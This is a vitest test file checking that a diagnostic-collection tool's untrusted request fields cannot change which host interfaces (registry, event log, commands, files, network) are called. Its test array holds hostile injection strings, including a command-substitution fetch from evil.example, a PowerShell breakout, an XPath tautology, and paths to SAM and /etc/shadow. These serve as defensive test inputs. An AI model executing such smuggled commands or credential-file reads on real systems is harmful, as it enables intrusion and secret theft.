import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type BundleRequest, bundleRequestSchema, requestItems } from '../../shared/request/request.ts';
import { runCollection } from '../collect/run.ts';
import type { Host } from '../host/host.ts';
import { openSample } from '../host/samples.ts';
import { requestedRun } from './answer-request.ts';

// A request comes from outside. What it says must change nothing about which doors of the machine are opened, and how,
// but for the items it names, its time, and sign-in names that were checked.

/** The host, and a list of every call through its doors: door, call, and what it was told. */
function listening(host: Host): { readonly host: Host; readonly calls: string[] } {
  const calls: string[] = [];
  const door = <Door extends object>(name: string, real: Door): Door =>
    new Proxy(real, {
      get(target, key, receiver): unknown {
        const member: unknown = Reflect.get(target, key, receiver);
        if (typeof member !== 'function') {
          return member;
        }
        return (...told: readonly unknown[]): unknown => {
          const words = JSON.stringify(told, (field, value: unknown) => (field === 'signal' ? undefined : value));
          calls.push(`${name}.${String(key)} ${words}`);
          return Reflect.apply(member, target, told);
        };
      },
    });
  const { registry, eventLog, command, files, network, clock, machine } = host;
  return {
    calls,
    host: {
      ...host,
      registry: door('registry', registry),
      eventLog: door('eventLog', eventLog),
      command: door('command', command),
      files: door('files', files),
      network: door('network', network),
      clock,
      machine: door('machine', machine),
    },
  };
}

const plain: BundleRequest = {
  caseNumber: 'TK-1',
  requester: 'Jo',
  createdAt: '2026-11-16T08:00:00.000Z',
  expiresAt: '2026-11-30T08:00:00.000Z',
  items: requestItems.map((id) => ({ id, why: 'needed' })),
  window: { since: '2026-11-10T00:00:00.000Z', until: '2026-11-16T00:00:00.000Z' },
  users: ['anna@contoso.example'],
  trackingIds: [],
  retention: { days: 30, promise: '' },
  redaction: 'full',
  encryptTo: null,
};

async function callsFor(request: BundleRequest): Promise<readonly string[]> {
  const opened = await openSample('healthy');
  if (!opened.ok) {
    throw new Error(opened.error.code);
  }
  const { host, calls } = listening(opened.value);
  const workFolder = await mkdtemp(join(tmpdir(), 'request-doors-'));
  const checked = { request, trust: { kind: 'unsigned' } as const, isExpired: false };
  await runCollection({
    host,
    workFolder,
    sinceMs: Date.parse(request.window.since),
    untilMs: Date.parse(request.window.until),
    signal: new AbortController().signal,
    onEvent: () => undefined,
    ...requestedRun(checked, new Map()),
  });
  await rm(workFolder, { recursive: true });
  // Collectors run side by side: their order is chance.
  return calls.map((call) => call.replaceAll(workFolder, 'WORK')).toSorted();
}

describe('the words of a request', () => {
  const hostile = [
    'cmd.exe /c calc',
    "'; Start-Process calc; '",
    '$(Invoke-WebRequest https://evil.example)',
    'C:\\Windows\\System32\\config\\SAM',
    '\\\\10.0.0.1\\share',
    '../../../etc/shadow',
    'https://evil.example/?x=1&y=2',
    "*[System[Provider[@Name='x' or '1'='1']]]",
    'HKLM\\SAM',
  ];

  it('reach no door', async () => {
    const expected = await callsFor(plain);
    expect(expected.length).toBeGreaterThan(20);
    for (const words of hostile) {
      const request = bundleRequestSchema.parse({
        ...plain,
        caseNumber: words.slice(0, 60),
        requester: words,
        items: requestItems.map((id) => ({ id, why: words })),
        retention: { days: 1, promise: words },
      });
      expect(await callsFor(request)).toEqual(expected);
    }
  }, 60_000);

  it('that name users reach the directory alone, as plain sign-in names or not at all', async () => {
    const withoutDirectory = (calls: readonly string[]): readonly string[] =>
      calls.filter((call) => !call.includes('directory'));
    const users = ["o'hara@contoso.example", 'bela+x@contoso.example', 'müller@contoso.example'];
    const calls = await callsFor(bundleRequestSchema.parse({ ...plain, users }));
    expect(withoutDirectory(calls)).toEqual(withoutDirectory(await callsFor(plain)));
    const directory = calls.filter((call) => call.includes('"directory"'));
    expect(directory).toHaveLength(1);
    expect(directory[0]).toContain('["directory","bela+x@contoso.example"]');
  }, 60_000);

  it('decide which items are gathered, and nothing but these', async () => {
    const only = (id: BundleRequest['items'][number]['id']): Promise<readonly string[]> =>
      callsFor({ ...plain, items: [{ id, why: 'x' }] });
    expect((await only('root-certificates')).every((call) => call.startsWith('registry.'))).toBe(true);
    expect((await only('system-event-log')).map((call) => call.slice(0, 27))).toEqual(['eventLog.exportLog ["System']);
    const doors = (await only('network')).map((call) => call.slice(0, call.indexOf('.')));
    expect(new Set(doors)).toEqual(new Set(['command', 'network']));
  }, 60_000);
});
